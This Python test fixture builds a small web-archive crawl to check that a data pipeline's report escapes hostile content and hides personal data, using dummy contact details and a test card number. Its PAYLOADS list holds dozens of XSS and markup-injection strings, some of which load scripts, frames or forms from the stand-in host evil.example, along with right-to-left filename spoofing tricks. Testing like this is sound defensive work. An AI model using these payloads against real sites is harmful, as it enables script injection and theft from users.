"""A small crawl made to hurt a report: texts that want to be markup, and personal data on pages that end at each stage."""

from __future__ import annotations

from html import escape
from pathlib import Path
from typing import Any

from warc_samples import response, warc_record
from yurai.run.recipe import Recipe, make_recipe

MAIL, PHONE, CARD = "hanako.private@mailbox.jp", "+81 90-1234-5678", "4111 1111 1111 1111"
SECRETS = ("hanako.private", "mailbox.jp", "90-1234-5678", "9012345678", "4111 1111", "4111111111111111")
QUERY = "?mail=hanako.private%40mailbox.jp&card=4111111111111111&tel=%2B819012345678"
WORDS = "The library keeps the old maps of the valley in a room that few people have seen since the flood. "
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><img src=https://evil.example/p.png>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</details></section></main><h1>owned</h1>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=q></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "javascript:alert(1)",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<video poster=https://evil.example/v.png></video>",
    "<audio src=https://evil.example/a.mp3 autoplay>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<svg><use href=https://evil.example/x.svg#a></use></svg>",
    "<svg><style>*{background:url(https://evil.example/b)}</style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<bdo dir=rtl>gnp.exe</bdo>",
    "invoice\u202egpj.exe",
    "\u2066\u2067hidden\u2069",
    "zero\u200bwidth\ufeff",
    "\u061c\u200f\u200eright",
    "<marquee onstart=alert(1)>x</marquee>",
)  # fmt: skip
INVISIBLE = "\u202e\u2066\u2067\u2069\u200b\ufeff\u061c\u200f\u200e"


def html(title: str, *paragraphs: str, lang: str = "en") -> bytes:
    body = "".join(f"<p>{escape(text)}</p>" for text in paragraphs)
    return f"<html lang={lang}><head><title>{escape(title)}</title></head><body><article>{body}</article></body></html>".encode()


def write_crawl(folder: Path) -> Path:
    """One archive: a page for each payload, then pages with personal data that are kept or end at each stage."""
    records = []
    for number, payload in enumerate(PAYLOADS):
        url = f"https://site-{number % 7}.example/{number}?q={payload}".replace("\u202e", "").replace("\n", "")
        page = html(f"{payload} {number}", f"{payload} {number}", *[WORDS * 3] * (1 + number % 5))
        records.append(response(number, page, WARC_Target_URI=url))
    personal = f"Write to {MAIL} or call {PHONE}; card {CARD}."
    title = f"Contact {MAIL} {PHONE} {CARD}"
    pages = {
        "kept": html(title, personal, WORDS * 8),
        "length": html(title, personal),
        "language": html(title, personal, "这是一个关于图书馆和旧地图的页面。很少有人见过这些地图。" * 12, lang="zh"),
        "duplicate": html(title, personal, WORDS * 8),
        "extract": html(title),
    }
    for number, (name, page) in enumerate(pages.items(), 100):
        records.append(response(number, page, WARC_Target_URI=f"https://www.private.example/{name}{QUERY}"))
    gone = b"HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\n\r\n" + html(title, personal)
    url = f"https://www.private.example/read{QUERY}"
    records.append(warc_record("response", 200, gone, WARC_Target_URI=url))
    odd = f"HTTP/1.1 200 OK\r\nContent-Type: application/x-{'a' * 8}+<b>\r\n\r\nx".encode()
    records.append(warc_record("response", 201, odd, WARC_Target_URI=url))
    path = folder / "hostile.warc"
    path.write_bytes(b"".join(records))
    return path


def hostile_recipe() -> Recipe:
    """A recipe without redaction: whatever the report hides, it hides itself."""
    rules: list[dict[str, Any]] = [
        {"use": "nfc"},
        {"use": "length", "min_characters": 250, "max_characters": 5000},
        {"use": "language", "allow": ["en"], "min_score": 0.3},
    ]
    stages: list[dict[str, Any]] = [{"use": name} for name in ("read", "extract", "language", "measure")]
    stages += [{"use": "filter", "rules": rules}, {"use": "dedup"}, {"use": "tokenize", "tokenizer": "bytes"}]
    return make_recipe({"name": "<b>hostile</b>", "about": "<i>about</i>", "stage": stages}, where="hostile")
